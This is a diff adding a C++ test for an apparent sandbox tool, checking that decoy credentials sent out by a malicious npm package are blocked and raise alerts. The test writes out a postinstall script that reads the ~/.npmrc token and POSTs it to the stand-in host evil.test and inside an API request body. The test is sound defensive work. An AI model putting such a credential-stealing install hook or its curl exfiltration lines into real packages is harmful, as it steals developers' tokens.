@@ -378,6 +378,105 @@ TEST_F(InterceptedHosts, ABoundKeyReachesItsHostWhileTheGuestHoldsOnlyAPlacehold
   EXPECT_EQ(Cli({"destroy", "-f", "sec"}).code, 0);
 }
 
+// Decoy credentials (issue #23): the guest's home holds believable fake
+// tokens; a package whose postinstall reads ~/.npmrc and sends the token
+// out (base64 in a plain-http POST to a host not allowed, and in a JSON
+// body to an allowed host the host reads) is refused both ways, the audit
+// names the decoy, and the alerts name the decoy, the process and the exec,
+// on the exec's stderr and in `workspace alerts`.
+TEST_F(InterceptedHosts, ADecoyTokenAPackageSendsOutIsRefusedAndRaisesAlerts) {
+  LoopbackTlsServer server(*ca_,
+                           RecordingHttpServer::ListenInNamespace(srv_, "198.51.100.10", 443));
+  RecordingHttpServer evil(RecordingHttpServer::ListenInNamespace(srv_, "198.51.100.11", 80),
+                           "evil-body");
+  ASSERT_TRUE(evil.ok());
+  // An AI API with a key bound: read by the host, and a request without
+  // the decoy goes through (the control).
+  ASSERT_EQ(CliWith({"secret", "add", "anthropic", "--from-env", "WS_TEST_KEY"},
+                    {{"WS_TEST_KEY", "sk-ant-api03-TESTREALKEY"}})
+                .code,
+            0);
+  auto create = Cli({"create", "trip", "--image", "debian", "--no-share", "--no-default-allow",
+                     "--allow", "api.anthropic.com", "--secret", "anthropic"});
+  ASSERT_EQ(create.code, 0) << create.err;
+  auto sh = [&](const std::string& script) {
+    return Cli({"exec", "--timeout", "120", "trip", "--", "sh", "-c", script});
+  };
+  // The decoys are where a worm looks, owned by the user, 0600.
+  auto home = sh(
+      "stat -c '%a %U %n' ~/.npmrc ~/.aws/credentials ~/.config/gh/hosts.yml ~/.git-credentials "
+      "~/.ssh/id_ed25519; sed -n 's/.*_authToken=//p' ~/.npmrc; echo \"$NPM_TOKEN\" | cut -c1-4");
+  ASSERT_EQ(home.code, 0) << home.out << home.err;
+  EXPECT_NE(home.out.find("600 user /home/user/.npmrc"), std::string::npos) << home.out;
+  EXPECT_NE(home.out.find("600 user /home/user/.ssh/id_ed25519"), std::string::npos) << home.out;
+  const size_t tok_at = home.out.find("npm_");
+  ASSERT_NE(tok_at, std::string::npos) << home.out;
+  const std::string token = home.out.substr(tok_at, home.out.find('\n', tok_at) - tok_at);
+  ASSERT_EQ(token.size(), 40u) << token;
+  EXPECT_NE(home.out.find("\nnpm_\n"), std::string::npos) << "NPM_TOKEN is a decoy too";
+  EXPECT_NE(Cli({"inspect", "trip"}).out.find("Alerts:      0 new"), std::string::npos);
+  // Positive controls: the same sends without the token get through.
+  auto clean =
+      sh("curl -sS -w ' %{http_code}' -X POST https://api.anthropic.com/v1/messages -H "
+         "\"x-api-key: $ANTHROPIC_API_KEY\" -H 'content-type: application/json' -d "
+         "'{\"t\":\"hello\"}'");
+  EXPECT_NE(clean.out.find(" 200"), std::string::npos) << clean.out << clean.err;
+  EXPECT_NE(server.got().find("{\"t\":\"hello\"}"), std::string::npos) << server.got();
+  ASSERT_EQ(Cli({"allow", "trip", "evil.test:80"}).code, 0);
+  auto plain = sh("curl -sS -X POST http://evil.test/ping -d 't=hello'");
+  EXPECT_NE(plain.out.find("evil-body"), std::string::npos) << plain.out << plain.err;
+  ASSERT_EQ(Cli({"allow", "trip", "--remove", "evil.test:80"}).code, 0);
+  // The package: its postinstall sends the token both ways.
+  auto pack = sh(
+      "mkdir -p /tmp/evil && cd /tmp/evil && printf '%s' '{\"name\":\"evil\",\"version\":\"1.0.0\","
+      "\"scripts\":{\"postinstall\":\"sh steal.sh\"}}' > package.json && cat > steal.sh <<'EOF'\n"
+      "T=$(sed -n 's/.*_authToken=//p' ~/.npmrc)\n"
+      "printf 'd=%s' \"$(printf %s \"$T\" | base64 -w0)\" > /tmp/d1\n"
+      "printf '{\"npmrc\":\"%s\"}' \"$T\" > /tmp/d2\n"
+      "curl -s -X POST http://evil.test/collect -d @/tmp/d1\n"
+      "curl -s -X POST https://api.anthropic.com/v1/messages -H \"x-api-key: $ANTHROPIC_API_KEY\" "
+      "-H 'content-type: application/json' -d @/tmp/d2\n"
+      "exit 0\nEOF\nnpm pack --silent >/dev/null && ls /tmp/evil/evil-1.0.0.tgz");
+  ASSERT_EQ(pack.code, 0) << pack.out << pack.err;
+  const size_t server_before = server.got().size();
+  auto install =
+      sh("mkdir -p /tmp/app && cd /tmp/app && npm install --no-audit --no-fund "
+         "--foreground-scripts /tmp/evil/evil-1.0.0.tgz");
+  EXPECT_EQ(install.code, 0) << install.out << install.err;
+  // Nothing of the token reached either server.
+  EXPECT_EQ(server.got().size(), server_before) << server.got();
+  EXPECT_EQ(server.got().find(token), std::string::npos);
+  EXPECT_EQ(evil.received().find("collect"), std::string::npos) << evil.received();
+  // The exec heard it on its stderr, naming the decoy.
+  EXPECT_NE(install.err.find("ALERT: decoy npm-token (~/.npmrc)"), std::string::npos)
+      << install.err;
+  // The audit names the decoy (never its value) on both sends.
+  auto audit = Cli({"audit", "trip", "--json"}).out;
+  EXPECT_EQ(Count(audit, "\"decoys\":[\"npm-token ~/.npmrc\"]"), 2) << audit;
+  EXPECT_EQ(audit.find(token), std::string::npos) << "the audit holds a decoy's value";
+  // alerts --json: both, with the process and the exec.
+  auto alerts = Cli({"alerts", "trip", "--json"});
+  ASSERT_EQ(alerts.code, 0) << alerts.err;
+  EXPECT_EQ(Count(alerts.out, "\"decoy\":\"npm-token\""), 2) << alerts.out;
+  EXPECT_NE(alerts.out.find("\"channel\":\"egress\""), std::string::npos) << alerts.out;
+  EXPECT_NE(alerts.out.find("\"channel\":\"request\""), std::string::npos) << alerts.out;
+  EXPECT_NE(alerts.out.find("\"target\":\"evil.test:80\""), std::string::npos) << alerts.out;
+  EXPECT_NE(alerts.out.find("\"command\":\"curl -s -X POST"), std::string::npos) << alerts.out;
+  EXPECT_NE(alerts.out.find("\"exec_id\":\""), std::string::npos) << alerts.out;
+  EXPECT_EQ(alerts.out.find("\"exec_id\":\"\""), std::string::npos) << "an alert without its exec";
+  EXPECT_EQ(alerts.out.find(token), std::string::npos);
+  // list and inspect say so until they are seen.
+  auto list = Cli({"list"});
+  EXPECT_NE(list.err.find("ALERT: 'trip' has 2 new alerts"), std::string::npos) << list.err;
+  auto shown = Cli({"alerts", "trip"});
+  EXPECT_EQ(shown.code, 0);
+  EXPECT_NE(shown.out.find("npm-token from ~/.npmrc seen in egress to evil.test:80 by curl"),
+            std::string::npos)
+      << shown.out;
+  EXPECT_EQ(Cli({"list"}).err.find("ALERT"), std::string::npos) << "seen now";
+  EXPECT_EQ(Cli({"destroy", "-f", "trip"}).code, 0);
+}
+
 // The real Claude Code CLI (the tarballs npm serves, pinned and fetched by
 // scripts/fetch-test-fixtures) installed in the guest with npm through the
 // host's registry endpoint from a registry in the test namespace, then run:
